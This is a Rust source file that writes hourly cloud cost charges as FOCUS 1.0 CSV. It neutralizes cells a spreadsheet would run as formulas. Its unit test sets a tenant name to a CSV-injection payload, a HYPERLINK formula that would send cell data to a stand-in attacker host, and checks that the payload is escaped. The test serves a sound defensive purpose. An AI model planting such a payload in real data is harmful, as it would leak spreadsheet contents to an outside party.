//! The FOCUS 1.0 CSV form of charges (FinOps Foundation's open cost format): the columns, one
//! row per hourly charge, and `x_` columns for what FOCUS has no column for.

use crate::config::metering::MeteringConfig;
use crate::pricing::Catalog;
use crate::store::costs::ExportRow;
use chrono::{DateTime, Datelike, NaiveDate, SecondsFormat, TimeZone, Utc};

/// The header. FOCUS 1.0 columns, then the four preview-era names (`Provider`, `Publisher`,
/// `InvoiceIssuer`, `ResourceID`) and `ChargeType` that the Foundation's validator 1.0.0 still
/// asks for (FOCUS allows extra columns), then Bulkhead's own `x_` columns.
pub const COLUMNS: &[&str] = &[
    "BilledCost",
    "EffectiveCost",
    "ListCost",
    "ListUnitPrice",
    "ContractedCost",
    "ContractedUnitPrice",
    "BillingCurrency",
    "BillingAccountId",
    "BillingAccountName",
    "BillingPeriodStart",
    "BillingPeriodEnd",
    "ChargePeriodStart",
    "ChargePeriodEnd",
    "ChargeCategory",
    "ChargeClass",
    "ChargeDescription",
    "ChargeFrequency",
    "ConsumedQuantity",
    "ConsumedUnit",
    "PricingQuantity",
    "PricingUnit",
    "PricingCategory",
    "ProviderName",
    "PublisherName",
    "InvoiceIssuerName",
    "RegionId",
    "RegionName",
    "AvailabilityZone",
    "ResourceId",
    "ResourceName",
    "ResourceType",
    "ServiceCategory",
    "ServiceName",
    "SkuId",
    "SkuPriceId",
    "SubAccountId",
    "SubAccountName",
    "Tags",
    "CommitmentDiscountCategory",
    "CommitmentDiscountId",
    "CommitmentDiscountName",
    "CommitmentDiscountStatus",
    "CommitmentDiscountType",
    "Provider",
    "Publisher",
    "InvoiceIssuer",
    "ResourceID",
    "ChargeType",
    "x_TenantId",
    "x_TenantSlug",
    "x_AllocationMethod",
    "x_AllocatedFrom",
];

/// A decimal as FOCUS readers parse it: plain digits with a decimal point, never exponent
/// notation, all its places kept.
fn amount(text: &str) -> String {
    if text.contains('.') {
        text.to_owned()
    } else {
        format!("{text}.0")
    }
}

fn timestamp(at: DateTime<Utc>) -> String {
    at.to_rfc3339_opts(SecondsFormat::Secs, true)
}

/// The billing period (calendar month, UTC) a charge hour falls in.
fn billing_period(hour: DateTime<Utc>) -> (DateTime<Utc>, DateTime<Utc>) {
    let first = NaiveDate::from_ymd_opt(hour.year(), hour.month(), 1).unwrap_or_default();
    let next = first
        .checked_add_months(chrono::Months::new(1))
        .unwrap_or(first);
    let at = |d: NaiveDate| Utc.from_utc_datetime(&d.and_hms_opt(0, 0, 0).unwrap_or_default());
    (at(first), at(next))
}

/// One charge as a FOCUS row, in [`COLUMNS`] order: its charge period is its hour or day.
pub fn row(r: &ExportRow, catalog: &Catalog, config: &MeteringConfig) -> Vec<String> {
    let sku = catalog.sku(&r.sku_id);
    let (period_start, period_end) = billing_period(r.period_start);
    let description = match (&r.allocation_method, sku) {
        (Some(method), Some(s)) => format!("{} (allocated by {method})", s.description),
        (None, Some(s)) => s.description.clone(),
        (_, None) => r.sku_id.clone(),
    };
    let unit = sku.map_or("Units", |s| s.unit.as_str()).to_owned();
    let resource_type = if r.isolation == "dedicated" {
        "Dedicated PostgreSQL database environment"
    } else {
        "Shared PostgreSQL schema environment"
    };
    let (cost, price, quantity) = (
        amount(&r.cost),
        amount(&r.list_unit_price),
        amount(&r.quantity),
    );
    let provider = config.provider.clone();
    vec![
        cost.clone(),
        cost.clone(),
        cost.clone(),
        price.clone(),
        cost,
        price,
        r.currency.clone(),
        config.billing_account_id.clone(),
        config.billing_account_name.clone(),
        timestamp(period_start),
        timestamp(period_end),
        timestamp(r.period_start),
        timestamp(r.period_end),
        "Usage".into(),
        String::new(),
        description,
        "Usage-Based".into(),
        quantity.clone(),
        unit.clone(),
        quantity,
        unit,
        "Standard".into(),
        provider.clone(),
        provider.clone(),
        provider.clone(),
        r.region.clone(),
        r.region.clone(),
        String::new(),
        r.environment_id.to_string(),
        format!("{}/{}", r.tenant_slug, r.environment_name),
        resource_type.into(),
        sku.map_or_else(|| "Other".to_owned(), |s| s.service_category.clone()),
        sku.map_or_else(|| r.sku_id.clone(), |s| s.service_name.clone()),
        r.sku_id.clone(),
        r.sku_price_id.clone(),
        r.tenant_id.to_string(),
        r.tenant_name.clone(),
        r.cost_tags.to_string(),
        String::new(),
        String::new(),
        String::new(),
        String::new(),
        String::new(),
        provider.clone(),
        provider.clone(),
        provider,
        r.environment_id.to_string(),
        "Usage".into(),
        r.tenant_id.to_string(),
        r.tenant_slug.clone(),
        r.allocation_method.clone().unwrap_or_default(),
        r.allocated_from.clone().unwrap_or_default(),
    ]
}

/// Columns that hold decimals (never rewritten by [`neutralized`]).
const NUMERIC: &[&str] = &[
    "BilledCost",
    "EffectiveCost",
    "ListCost",
    "ListUnitPrice",
    "ContractedCost",
    "ContractedUnitPrice",
    "ConsumedQuantity",
    "PricingQuantity",
];

/// A text cell a spreadsheet would run as a formula (`=`, `+`, `-`, `@`, tab, carriage
/// return first: a tenant named `=HYPERLINK(…)`) gets a leading `'`, as OWASP advises for CSV.
fn neutralized(cell: String) -> String {
    if cell.starts_with(['=', '+', '-', '@', '\t', '\r']) {
        format!("'{cell}")
    } else {
        cell
    }
}

/// CSV bytes of the header (when `header`) and rows.
pub fn csv_chunk(
    rows: &[ExportRow],
    header: bool,
    catalog: &Catalog,
    config: &MeteringConfig,
) -> Result<Vec<u8>, csv::Error> {
    let mut writer = csv::WriterBuilder::new()
        .has_headers(false)
        .from_writer(Vec::with_capacity(rows.len() * 700 + 1024));
    if header {
        writer.write_record(COLUMNS)?;
    }
    for r in rows {
        let cells = row(r, catalog, config)
            .into_iter()
            .zip(COLUMNS)
            .map(|(cell, column)| {
                if NUMERIC.contains(column) {
                    cell
                } else {
                    neutralized(cell)
                }
            });
        writer.write_record(cells)?;
    }
    writer
        .into_inner()
        .map_err(|e| csv::Error::from(e.into_error()))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_row_has_every_column_and_plain_decimals() {
        let config = MeteringConfig::from_lookup(&|_| None).expect("defaults");
        let catalog = Catalog::builtin().expect("catalog");
        let r = ExportRow {
            environment_id: uuid::Uuid::now_v7(),
            environment_name: "prod".into(),
            isolation: "shared".into(),
            tenant_id: uuid::Uuid::now_v7(),
            tenant_slug: "acme".into(),
            tenant_name: "Acme, Inc.".into(),
            sku_id: "pooled-server-hours".into(),
            period_start: Utc
                .with_ymd_and_hms(2026, 12, 31, 23, 0, 0)
                .single()
                .expect("time"),
            period_end: Utc
                .with_ymd_and_hms(2027, 1, 1, 0, 0, 0)
                .single()
                .expect("time"),
            sku_price_id: "pooled-server-hours:*:EUR:2026-01-01".into(),
            region: "eu-west-1".into(),
            currency: "EUR".into(),
            quantity: "1".into(),
            list_unit_price: "0.68".into(),
            cost: "0.68".into(),
            allocation_method: Some("storage_share".into()),
            allocated_from: Some("pooled-database:bulkhead_pool".into()),
            cost_tags: serde_json::json!({"cost_center": "cc-1"}),
        };
        let fields = row(&r, &catalog, &config);
        assert_eq!(fields.len(), COLUMNS.len());
        let at = |name: &str| &fields[COLUMNS.iter().position(|c| *c == name).expect(name)];
        assert_eq!(at("ConsumedQuantity"), "1.0");
        assert_eq!(at("BillingPeriodStart"), "2026-12-01T00:00:00Z");
        assert_eq!(at("BillingPeriodEnd"), "2027-01-01T00:00:00Z");
        assert_eq!(at("ChargePeriodEnd"), "2027-01-01T00:00:00Z");
        assert_eq!(at("x_AllocationMethod"), "storage_share");
        assert_eq!(at("Tags"), r#"{"cost_center":"cc-1"}"#);
        let mut hostile = r.clone();
        hostile.tenant_name = "=HYPERLINK(\"https://evil.example/?\"&A2,\"x\")".into();
        hostile.tenant_slug = "-x".into();
        let csv =
            String::from_utf8(csv_chunk(&[r, hostile], true, &catalog, &config).expect("csv"))
                .expect("utf8");
        assert!(csv.contains("\"'=HYPERLINK("), "{csv}");
        assert!(csv.contains(",'-x,"), "{csv}");
        assert!(
            !csv.contains(",=HYPERLINK") && !csv.contains(",\"=HYPERLINK"),
            "{csv}"
        );
        assert!(csv.starts_with("BilledCost,EffectiveCost"));
        assert!(csv.contains("\"Acme, Inc.\""), "{csv}");
    }
}
